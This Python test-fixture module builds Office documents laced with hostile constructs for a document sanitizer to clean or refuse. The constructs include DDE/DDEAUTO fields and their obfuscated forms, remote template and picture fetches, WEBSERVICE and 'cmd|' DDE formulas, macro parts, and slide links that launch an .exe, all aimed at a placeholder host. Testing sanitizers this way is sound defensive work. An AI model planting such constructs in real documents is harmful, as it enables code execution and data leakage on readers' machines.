"""Word, Excel and PowerPoint files that fetch, run or hide something, and what must become of each: real files, made by
the libraries that write them, with what Office would have written into them besides.
"""

from __future__ import annotations

import zipfile
from collections.abc import Callable, Mapping
from functools import cache
from io import BytesIO

import docx
import openpyxl
import pptx
from docx.oxml import parse_xml
from openpyxl.chart import BarChart
from openpyxl.chart import Reference as Cells
from openpyxl.worksheet.worksheet import Worksheet
from PIL import Image

from judged import CLEANED
from narrowed import as_a

EMBEDDED, LINKED, MACROS, BROKEN = "embedded", "linked", "macros", "broken"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NAMES = f'xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml"'
SHOWN = "二〇二〇年春季报名表"
RESULT = "字段显示的文字"
ADDRESS = "https://example.org/form"


@cache
def picture() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SECRET camera"
    stream = BytesIO()
    Image.linear_gradient("L").convert("RGB").save(stream, "JPEG", exif=exif)
    return stream.getvalue()


@cache
def word() -> bytes:
    """A heading, a picture, a table, a link; and who wrote it."""
    document = docx.Document()
    document.core_properties.author = "SECRET author"
    document.add_heading(SHOWN, 1)
    document.add_picture(BytesIO(picture()))
    document.add_table(2, 2).cell(0, 0).text = "姓名"
    linked = document.part.relate_to(ADDRESS, f"{R}/hyperlink", is_external=True)
    paragraph = document.add_paragraph()
    paragraph._p.append(parse_xml(f'<w:hyperlink {NAMES} r:id="{linked}"><w:r><w:t>网址</w:t></w:r></w:hyperlink>'))
    return saved(document)


@cache
def sheet() -> bytes:
    book = openpyxl.Workbook()
    book.properties.creator = "SECRET author"
    page = as_a(Worksheet, book.active)
    page["A1"], page["A2"], page["A3"] = SHOWN, 2, "=SUM(A2,1)"
    page["B1"] = "IMAGE(1) 和 CALL(2) 是文字，a|b 也是"
    page["B2"] = '=IF(A2>1,"CMD|是","否")'
    page["B1"].hyperlink = ADDRESS
    chart = BarChart()
    chart.add_data(Cells(page, min_col=1, min_row=2, max_row=3))
    page.add_chart(chart, "D1")
    return saved(book)


@cache
def slides() -> bytes:
    show = pptx.Presentation()
    show.core_properties.author = "SECRET author"
    page = show.slides.add_slide(show.slide_layouts[5])
    page.shapes.title.text = SHOWN
    page.shapes.add_picture(BytesIO(picture()), 0, 0)
    run = page.shapes.add_textbox(0, 0, 100, 100).text_frame.paragraphs[0].add_run()
    run.text, run.hyperlink.address = "网址", ADDRESS
    return saved(show)


def saved(document: object) -> bytes:
    stream = BytesIO()
    document.save(stream)  # type: ignore[attr-defined]
    return stream.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Mapping[str, bytes]) -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


def related(parts: dict[str, bytes], part: str, kind: str, target: str, *, outside: bool = False) -> str:
    """Let a part lead there; the name that it has for it."""
    folder, _, name = part.rpartition("/")
    place = f"{folder}/_rels/{name}.rels"
    before = parts.get(
        place, f'<Relationships xmlns="{R.replace("officeDocument", "package")}"></Relationships>'.encode()
    )
    number = f"rId{900 + before.count(b'<Relationship ')}"
    mode = ' TargetMode="External"' if outside else ""
    added = f'<Relationship Id="{number}" Type="{kind if ":" in kind else f"{R}/{kind}"}" Target="{target}"{mode}/>'
    parts[place] = before.replace(b"</Relationships>", f"{added}</Relationships>".encode())
    return number


def typed(parts: dict[str, bytes], part: str, content: bytes, kind: str) -> None:
    """Add a part, and say of what type it is."""
    parts[part] = content
    said = f'<Override PartName="/{part}" ContentType="{kind}"/></Types>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", said.encode())


BODY, PAGE, SLIDE = "word/document.xml", "xl/worksheets/sheet1.xml", "ppt/slides/slide1.xml"


def in_body(text: str) -> bytes:
    """Word's document with this at its end."""
    parts = parts_of(word())
    _add(parts, text)
    return packed(parts)


def _add(parts: dict[str, bytes], text: str) -> None:
    body = parts[BODY].decode()
    at = body.rindex("<w:sectPr")
    added = text if text.startswith("<w:p") else f"<w:p {NAMES}>{text}</w:p>"
    parts[BODY] = (body[:at] + added + body[at:]).encode()


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def told(*words: str) -> str:
    return "".join(f'<w:r><w:instrText xml:space="preserve">{word}</w:instrText></w:r>' for word in words)


def of_marks(*words: str, shown: str = RESULT) -> str:
    result = f"<w:r><w:t>{shown}</w:t></w:r>"
    return f"{mark('begin')}{told(*words)}{mark('separate')}{result}{mark('end')}"


NESTED = (
    f"{mark('begin')}{told(' IF ')}{of_marks(' DDEAUTO SECRET ', shown='1')}{told(' = 1 ')}"
    f"{mark('separate')}<w:r><w:t>{RESULT}</w:t></w:r>{mark('end')}"
)
SPELLED = (
    f"{mark('begin')}{of_marks(' QUOTE 68 68 69 ', shown='SECRET')}{told(' SECRET ')}"
    f"{mark('separate')}<w:r><w:t>{RESULT}</w:t></w:r>{mark('end')}"
)
FIELDS = {
    "DDE": of_marks(" DDE SECRET ", "&quot;/k calc&quot;"),
    "DDEAUTO": of_marks("  DDEAUTO c:\\\\windows\\\\SECRET "),
    "DDEAUTO in pieces": of_marks(" DD", "EA", "UTO SECRET"),
    "DDEAUTO in numbers": of_marks("&#68;&#x44;EAUTO SECRET"),
    "small letters": of_marks(" ddeauto SECRET"),
    "INCLUDEPICTURE": of_marks(' INCLUDEPICTURE "https://SECRET/a.png" \\d \\* MERGEFORMATINET '),
    "INCLUDETEXT": of_marks(' INCLUDETEXT "\\\\\\\\SECRET\\\\a.docx" '),
    "IMPORT": of_marks(" IMPORT https://SECRET/a.png "),
    "LINK": of_marks(' LINK Excel.Sheet.12 "C:\\\\SECRET.xlsx" Sheet1!R1C1 \\a '),
    "DATABASE": of_marks(' DATABASE \\d "C:\\\\SECRET.mdb" '),
    "RD": of_marks(' RD "https://SECRET/a.docx" '),
    "MACROBUTTON": of_marks(" MACROBUTTON SECRET 按这里 "),
    "unknown": of_marks(" SOMETHINGNEW SECRET "),
    "of one mark": f'<w:fldSimple w:instr=" DDEAUTO SECRET "><w:r><w:t>{RESULT}</w:t></w:r></w:fldSimple>',
    "of one mark in numbers": (
        f'<w:fldSimple w:instr="&#73;NCLUDETEXT SECRET"><w:r><w:t>{RESULT}</w:t></w:r></w:fldSimple>'
    ),
    "within another": NESTED,
    "spelled by another": SPELLED,
    "without end": f"{mark('begin')}{told(' DDEAUTO SECRET ')}<w:r><w:t/></w:r>",
    "link to a file": of_marks(' HYPERLINK "file://SECRET/a" '),
    "link to a share": of_marks(' HYPERLINK "\\\\\\\\SECRET\\\\a" '),
    "deleted": f"{mark('begin')}<w:r><w:delInstrText> DDEAUTO SECRET </w:delInstrText></w:r>{mark('end')}",
}
KEPT_FIELDS = (
    " PAGE ",
    " TOC \\o &quot;1-3&quot; ",
    ' HYPERLINK "https://example.org/a" ',
    " = SUM(A1) ",
    " DATE \\@ M ",
)


def _spread() -> bytes:
    """A field that begins in one paragraph and ends in another."""
    return in_body(
        f"<w:p {NAMES}>{mark('begin')}{told(' INCLUDE')}</w:p><w:p {NAMES}>{told('TEXT SECRET ')}{mark('separate')}"
        f"<w:r><w:t>{RESULT}</w:t></w:r></w:p><w:p {NAMES}>{mark('end')}</w:p>"
    )


Change = Callable[[dict[str, bytes]], None]


def changed(data: Callable[[], bytes], change: Change) -> bytes:
    parts = parts_of(data())
    change(parts)
    return packed(parts)


def outside(part: str, kind: str, target: str = "https://SECRET/a") -> Change:
    return lambda parts: void(related(parts, part, kind, target, outside=True))


def void(_: object) -> None:
    return None


def inside(part: str, kind: str, target: str, content: bytes, said: str) -> Change:
    def change(parts: dict[str, bytes]) -> None:
        related(parts, part, kind, f"/{target}")
        typed(parts, target, content, said)

    return change


def _copied_picture(parts: dict[str, bytes]) -> None:
    """As Word keeps one that was pasted from a page: within, and where it came from."""
    number = related(parts, BODY, "image", "https://SECRET/a.png", outside=True)
    parts[BODY] = parts[BODY].replace(b"<a:blip ", f'<a:blip r:link="{number}" '.encode(), 1)


def _far_picture(parts: dict[str, bytes]) -> None:
    number = related(parts, BODY, "image", "https://SECRET/a.png", outside=True)
    _add(parts, f'<w:r><w:pict><v:shape><v:imagedata r:id="{number}"/></v:shape></w:pict></w:r>')


def _template(parts: dict[str, bytes]) -> None:
    number = related(parts, "word/settings.xml", "attachedTemplate", "https://SECRET/a.dotm", outside=True)
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"</w:settings>", f'<w:attachedTemplate {NAMES} r:id="{number}"/></w:settings>'.encode()
    )


def _merged(parts: dict[str, bytes]) -> None:
    number = related(parts, "word/settings.xml", "mailMergeSource", "file:///C:/SECRET.xlsx", outside=True)
    merge = (
        f'<w:mailMerge {NAMES}><w:connectString w:val="DSN=SECRET"/><w:query w:val="SELECT SECRET"/>'
        f'<w:dataSource r:id="{number}"/></w:mailMerge></w:settings>'
    )
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(b"</w:settings>", merge.encode())


def _custom(main: str) -> Change:
    def change(parts: dict[str, bytes]) -> None:
        related(parts, main, "customXml", "/customXml/item1.xml")
        parts["customXml/item1.xml"] = b"<a>SECRET</a>"

    return change


def _custom_in_slides(parts: dict[str, bytes]) -> None:
    number = related(parts, SLIDE, "customXml", "/customXml/item1.xml")
    parts["customXml/item1.xml"] = b"<a>SECRET</a>"
    parts[SLIDE] = parts[SLIDE].replace(
        b"</p:cSld>", f'<p:custDataLst><p:custData r:id="{number}"/></p:custDataLst></p:cSld>'.encode()
    )


def _beginning(parts: dict[str, bytes]) -> None:
    added = b'<Relationship Id="z" Type="http://x/webextensiontaskpanes" Target="word/panes.xml"/></Relationships>'
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"</Relationships>", added)
    parts["word/panes.xml"] = b"<a>SECRET</a>"


def _orphan(parts: dict[str, bytes]) -> None:
    parts["word/notes.txt"] = b"SECRET"
    parts["hidden/more.xml"] = b"<a>SECRET</a>"


def formula(text: str) -> Change:
    def change(parts: dict[str, bytes]) -> None:
        parts[PAGE] = parts[PAGE].replace(b"SUM(A2,1)", text.encode())

    return change


def _defined(parts: dict[str, bytes]) -> None:
    name = b'<definedNames><definedName name="a">WEBSERVICE("https://SECRET")</definedName></definedNames><calcPr'
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"<definedNames />", b"").replace(b"<calcPr", name)


def _validated(parts: dict[str, bytes]) -> None:
    rule = b"<dataValidation sqref='A1'><formula1>cmd|'/c SECRET'!A1</formula1></dataValidation>"
    rules = b"<dataValidations>" + rule + b"</dataValidations>"
    parts[PAGE] = parts[PAGE].replace(b"</sheetData>", b"</sheetData>" + rules)


def _button(parts: dict[str, bytes]) -> None:
    place = "xl/drawings/drawing1.xml"
    parts[place] = parts[place].replace(b"<graphicFrame>", b"<graphicFrame macro=\"'\\\\SECRET\\a.xlsm'!run\">")


def click(element: str) -> Change:
    def change(parts: dict[str, bytes]) -> None:
        number = related(parts, SLIDE, "hyperlink", "file:///SECRET.exe", outside=True)
        added = element.format(number)
        parts[SLIDE] = parts[SLIDE].replace(b"<p:nvPr/>", f"<p:nvPr/>{added}".encode(), 1)

    return change


def drawing(content: bytes) -> Change:
    return inside(BODY, "image", "word/media/a.svg", content, "image/svg+xml")


def _entities(parts: dict[str, bytes]) -> None:
    parts[BODY] = b"<!DOCTYPE a [<!ENTITY b 'SECRET'>]>" + parts[BODY]


def utf_16(parts: dict[str, bytes]) -> None:
    text = parts[BODY].decode().replace("UTF-8", "UTF-16")
    parts[BODY] = text.encode("utf-16")


def utf_7(parts: dict[str, bytes]) -> None:
    parts[BODY] = b"<?xml version='1.0' encoding='UTF-7'?>" + parts[BODY].partition(b"?>")[2]


OTHER = "application/octet-stream"
SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "word": (word, CLEANED),
    "sheet": (sheet, CLEANED),
    "slides": (slides, CLEANED),
    **{f"field {name}": (lambda text=text: in_body(text), CLEANED) for name, text in FIELDS.items()},  # type: ignore[misc]
    "field over paragraphs": (_spread, CLEANED),
    "shape that fetches": (
        lambda: in_body(
            '<w:r><w:pict><v:shape href="file:///SECRET"><v:imagedata src="https://SECRET/a.png"/></v:shape></w:pict></w:r>'
        ),
        CLEANED,
    ),
    "copied picture": (lambda: changed(word, _copied_picture), CLEANED),
    "far picture": (lambda: changed(word, _far_picture), LINKED),
    "template": (lambda: changed(word, _template), CLEANED),
    "mail merge": (lambda: changed(word, _merged), CLEANED),
    "link to a file": (lambda: changed(word, outside(BODY, "hyperlink", "file:///C:/SECRET.docx")), CLEANED),
    "link to a share": (lambda: changed(word, outside(BODY, "hyperlink", "\\\\SECRET\\a")), CLEANED),
    "custom xml": (lambda: changed(word, _custom(BODY)), CLEANED),
    "custom xml of a sheet": (lambda: changed(sheet, _custom("xl/workbook.xml")), CLEANED),
    "custom xml of slides": (lambda: changed(slides, _custom_in_slides), CLEANED),
    "add-in": (lambda: changed(word, _beginning), CLEANED),
    "orphans": (lambda: changed(word, _orphan), CLEANED),
    "keyboard": (
        lambda: changed(word, inside(BODY, "http://x/keyMapCustomizations", "word/keys.xml", b"<a>SECRET</a>", OTHER)),
        CLEANED,
    ),
    "printer": (
        lambda: changed(sheet, inside(PAGE, "printerSettings", "xl/printerSettings/a.bin", b"SECRET", OTHER)),
        CLEANED,
    ),
    **{
        f"outside {kind}": (lambda kind=kind: changed(word, outside(BODY, kind)), LINKED)  # type: ignore[misc]
        for kind in ("oleObject", "subDocument", "frame", "video", "audio", "package", "aFChunk", "somethingNew")
    },
    "outside without saying so": (
        lambda: changed(word, lambda parts: void(related(parts, BODY, "stylesheet", "https://SECRET/a"))),
        LINKED,
    ),
    "chart of a file": (
        lambda: changed(sheet, outside("xl/charts/chart1.xml", "oleObject", "file:///C:/SECRET.xlsx")),
        LINKED,
    ),
    "object": (lambda: changed(word, inside(BODY, "oleObject", "word/embeddings/a.bin", b"SECRET", OTHER)), EMBEDDED),
    "object elsewhere": (
        lambda: changed(word, inside(BODY, "oleObject", "word/media/a.png", b"SECRET", OTHER)),
        EMBEDDED,
    ),
    "object as a picture": (
        lambda: changed(word, inside(BODY, "image", "word/media/a.png", b"\xd0\xcf\x11\xe0SECRET", "image/png")),
        EMBEDDED,
    ),
    "program": (lambda: changed(word, inside(BODY, "image", "word/media/a.exe", b"MZ", OTHER)), EMBEDDED),
    "page": (lambda: changed(word, inside(BODY, "aFChunk", "word/a.htm", b"<p>SECRET", "text/html")), EMBEDDED),
    "control": (lambda: changed(word, inside(BODY, "control", "word/controls/a.xml", b"<a/>", OTHER)), EMBEDDED),
    "macros": (lambda: changed(word, inside(BODY, "http://x/vbaProject", "word/vbaProject.bin", b"x", OTHER)), MACROS),
    "macros by another name": (
        lambda: changed(word, inside(BODY, "image", "word/media/a.png", b"x", "application/vnd.ms-office.vbaProject")),
        MACROS,
    ),
    "macros of before": (
        lambda: changed(
            sheet,
            inside("xl/workbook.xml", "http://x/xlMacrosheet", "xl/macros/a.xml", b"<a/>", f"{SPREADSHEET}.x+xml"),
        ),
        MACROS,
    ),
    "other workbook": (
        lambda: changed(
            sheet,
            inside(
                "xl/workbook.xml",
                "externalLink",
                "xl/externalLinks/a.xml",
                b"<ddeLink/>",
                f"{SPREADSHEET}.externalLink+xml",
            ),
        ),
        LINKED,
    ),
    "other workbook by another name": (
        lambda: changed(
            sheet, inside("xl/workbook.xml", "theme", "xl/a.xml", b"<ddeLink/>", f"{SPREADSHEET}.externalLink+xml")
        ),
        LINKED,
    ),
    "connections": (
        lambda: changed(
            sheet,
            inside("xl/workbook.xml", "connections", "xl/connections.xml", b"<a/>", f"{SPREADSHEET}.connections+xml"),
        ),
        LINKED,
    ),
    "query": (
        lambda: changed(
            sheet, inside(PAGE, "queryTable", "xl/queryTables/a.xml", b"<a/>", f"{SPREADSHEET}.queryTable+xml")
        ),
        LINKED,
    ),
    **{
        f"formula {text[:12]}": (lambda text=text: changed(sheet, formula(text)), LINKED)  # type: ignore[misc]
        for text in (
            'WEBSERVICE("https://SECRET")',
            '_xlfn.WEBSERVICE("https://SECRET")',
            '_xlfn.IMAGE("https://SECRET")',
            'IF(1,webservice ("https://SECRET"))',
            '&#87;EBSERVICE("https://SECRET")',
            '<![CDATA[RTD("SECRET")]]>',
            "cmd|'/c SECRET'!A0",
            "'cmd'|'/c SECRET'!A0",
            "'\\\\SECRET\\[a.xlsx]b'!A1",
            '_xlfn._xlws.PY("SECRET")',
            'CALL("urlmon","SECRET")',
            'CUBEVALUE("SECRET")',
        )
    },
    "formula of a name": (lambda: changed(sheet, _defined), LINKED),
    "formula of a rule": (lambda: changed(sheet, _validated), LINKED),
    "button": (lambda: changed(sheet, _button), CLEANED),
    "program on a click": (
        lambda: changed(slides, click('<a:hlinkClick r:id="{}" action="ppaction://program"/>')),
        CLEANED,
    ),
    "program on a touch": (lambda: changed(slides, click('<a:hlinkMouseOver r:id="{}"/>')), CLEANED),
    "program in numbers": (
        lambda: changed(slides, click('<a:hlinkClick r:id="{}" action="ppact&#105;on://program"/>')),
        CLEANED,
    ),
    "drawing with a script": (
        lambda: changed(word, drawing(b"<svg><script>SECRET</script></svg>")),
        LINKED,
    ),
    "drawing that fetches": (
        lambda: changed(word, drawing(b'<svg><image href="//SECRET/a"/></svg>')),
        LINKED,
    ),
    "in other letters": (lambda: changed(word, utf_16), BROKEN),
    "in hidden letters": (lambda: changed(word, utf_7), BROKEN),
    "entities": (
        lambda: changed(word, _entities),
        BROKEN,
    ),
}
"""By name: the file, and what becomes of it: ``cleaned``, or why it is refused."""
